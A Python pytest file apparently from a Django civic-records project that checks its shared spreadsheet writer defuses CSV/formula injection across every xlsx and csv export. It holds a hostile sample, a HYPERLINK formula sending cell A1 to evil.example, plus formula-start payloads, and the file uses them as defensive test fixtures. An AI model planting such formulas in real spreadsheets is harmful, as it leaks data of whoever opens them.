"""Issues 18.2 and 23.2: one shared spreadsheet writer (lvzhi.core.spreadsheets) for every
export. User text never becomes a formula (OWASP CSV injection); every xlsx has a title row
(what, filter, when), a bold frozen header, widths from content, typed cells, a Chinese sheet
name; file names go out as RFC 5987 ``filename*``."""

from __future__ import annotations

import csv
import datetime as dt
import io
import re
from pathlib import Path
from urllib.parse import unquote

import pytest
from django.test import Client
from openpyxl import load_workbook

from lvzhi.core import spreadsheets
from lvzhi.core.models import User

SRC = Path(__file__).resolve().parents[2] / "src" / "lvzhi"
HOSTILE = '=HYPERLINK("http://evil.example/?"&A1,"点此查看")'
STARTS = ["=1+1", "+1", "-1+2", "@SUM(A1)", "\t=1", "\r=1", "＝1+1", "＋1", "－1", "＠SUM(A1)"]


@pytest.mark.parametrize("text", STARTS)
def test_every_formula_start_is_neutralised_in_csv(text: str) -> None:
    assert spreadsheets.csv_value(text) == "'" + text
    assert spreadsheets.csv_value("议案 =1") == "议案 =1"  # only a leading one arms a cell
    assert spreadsheets.csv_value(-3) == "-3"  # numbers stay numbers


def test_xlsx_cells_are_typed_and_never_formulas() -> None:
    when = dt.datetime(2026, 12, 7, 9, 30, tzinfo=dt.UTC)
    data = spreadsheets.xlsx_bytes(
        [
            spreadsheets.Sheet(
                "代表建议",
                ["标题", "日期", "时间", "件数", "办结率"],
                [[t, dt.date(2026, 12, 7), when, 3, spreadsheets.percent(88.9)] for t in STARTS],
                filters=["年度：2026"],
            )
        ]
    )
    ws = load_workbook(io.BytesIO(data))["代表建议"]
    assert "代表建议" in ws["A1"].value and "年度：2026" in ws["A1"].value
    assert ws.freeze_panes == "A3" and all(c.font.b for c in ws[2])
    for row in ws.iter_rows(min_row=3):
        title, day, moment, count, rate = row
        assert title.data_type == "s" and title.quotePrefix
        assert isinstance(day.value, dt.datetime) and day.number_format == "yyyy-mm-dd"
        assert moment.value == dt.datetime(2026, 12, 7, 17, 30)  # Beijing time, naive
        assert count.value == 3 and isinstance(rate.value, float)
        assert rate.value == pytest.approx(0.889) and rate.number_format == "0.0%"
    assert ws.column_dimensions["A"].width >= 10


def test_chinese_file_names_go_out_as_rfc5987() -> None:
    header = spreadsheets.content_disposition("代表名册.xlsx")
    assert header.startswith('attachment; filename="')
    name = re.search(r"filename\*=UTF-8''(\S+)", header)
    assert name is not None and unquote(name.group(1)) == "代表名册.xlsx"


def test_no_module_writes_spreadsheets_on_its_own() -> None:
    """Every export goes through the shared writer: nothing else makes a Workbook or a csv
    writer (the importer only reads)."""
    offenders = []
    for path in SRC.rglob("*.py"):
        if path.name == "spreadsheets.py" or "migrations" in path.parts:
            continue
        text = path.read_text(encoding="utf-8")
        if re.search(r"\bWorkbook\(|csv\.writer\(|csv\.DictWriter\(|WriteOnlyCell", text):
            offenders.append(str(path.relative_to(SRC)))
    assert offenders == []


def _hostile_data() -> None:
    from lvzhi.portal.models import News
    from lvzhi.proposals.models import Proposal
    from lvzhi.registry.models import Deputy
    from lvzhi.stations.models import Opinion, Station
    from lvzhi.suggestions.models import Suggestion

    Opinion.objects.update(title=HOSTILE)
    Suggestion.objects.update(title=HOSTILE)
    Proposal.objects.update(subject=HOSTILE)
    Deputy.objects.update(position=HOSTILE)
    Station.objects.update(address=HOSTILE)
    News.objects.update(title=HOSTILE)


EXPORTS = [
    ("station", "/stations/opinions/", {"format": "xlsx"}),
    ("station", "/stations/opinions/", {"format": "csv"}),
    ("station", "/stations/statistics/", {"format": "xlsx"}),
    (None, "/stations/", {"format": "xlsx"}),
    (None, "/stations/", {"format": "csv"}),
    ("office", "/suggestions/queue/", {"status": "", "format": "xlsx"}),
    ("office", "/suggestions/queue/", {"status": "", "format": "csv"}),
    ("handling", "/suggestions/inbox/", {"format": "xlsx"}),
    ("office", "/suggestions/statistics/", {"format": "xlsx"}),
    (None, "/suggestions/public/", {"format": "csv"}),
    ("secretariat", "/proposals/queue/", {"format": "xlsx"}),
    ("secretariat", "/proposals/queue/", {"format": "csv"}),
    ("office", "/registry/deputies/export.xlsx", {}),
    ("office", "/registry/deputies/export.csv", {}),
    ("office", "/compliance/", {"format": "xlsx"}),
    ("office", "/records/evaluation/", {"format": "xlsx"}),
]


def _body(response: object) -> bytes:
    if getattr(response, "streaming", False):
        return b"".join(response.streaming_content)  # type: ignore[attr-defined]
    return response.content  # type: ignore[attr-defined]


@pytest.mark.django_db
@pytest.mark.parametrize(("who", "url", "params"), EXPORTS)
def test_every_export_neutralises_hostile_text(
    client: Client, who: str | None, url: str, params: dict[str, str]
) -> None:
    _hostile_data()
    if who:
        client.force_login(User.objects.get(username=who))
        session = client.session
        from lvzhi.core import clock

        session["last_seen"] = session["started_at"] = clock.now().timestamp()
        session.save()
    response = client.get(url, params)
    assert response.status_code == 200, url
    disposition = response["Content-Disposition"]
    assert "filename*=UTF-8''" in disposition
    body = _body(response)
    if params.get("format") == "csv" or url.endswith(".csv"):
        cells = [c for row in csv.reader(io.StringIO(body.decode("utf-8-sig"))) for c in row]
        armed = [c for c in cells if c.startswith(spreadsheets.FORMULA_STARTS)]
        assert armed == []
        return
    wb = load_workbook(io.BytesIO(body))
    seen_hostile = False
    data_rows = sum(max(ws.max_row - 2, 0) for ws in wb.worksheets)
    for ws in wb.worksheets:
        assert not re.fullmatch(r"[A-Za-z0-9 _-]+", ws.title), ws.title  # a Chinese name
        assert ws.freeze_panes == "A3", ws.title
        assert all(c.font.b for c in ws[2] if c.value is not None), "header bold"
        for row in ws.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (url, cell.coordinate, cell.value)
                if cell.value == HOSTILE:
                    seen_hostile = True
                    assert cell.quotePrefix
                if isinstance(cell.value, str):
                    assert not re.fullmatch(r"-?\d+(\.\d+)?%", cell.value), "rate as text"
    assert (
        seen_hostile
        or data_rows == 0
        or url
        in {
            "/stations/statistics/",
            "/suggestions/statistics/",
            "/compliance/",
            "/records/evaluation/",
        }
    ), url
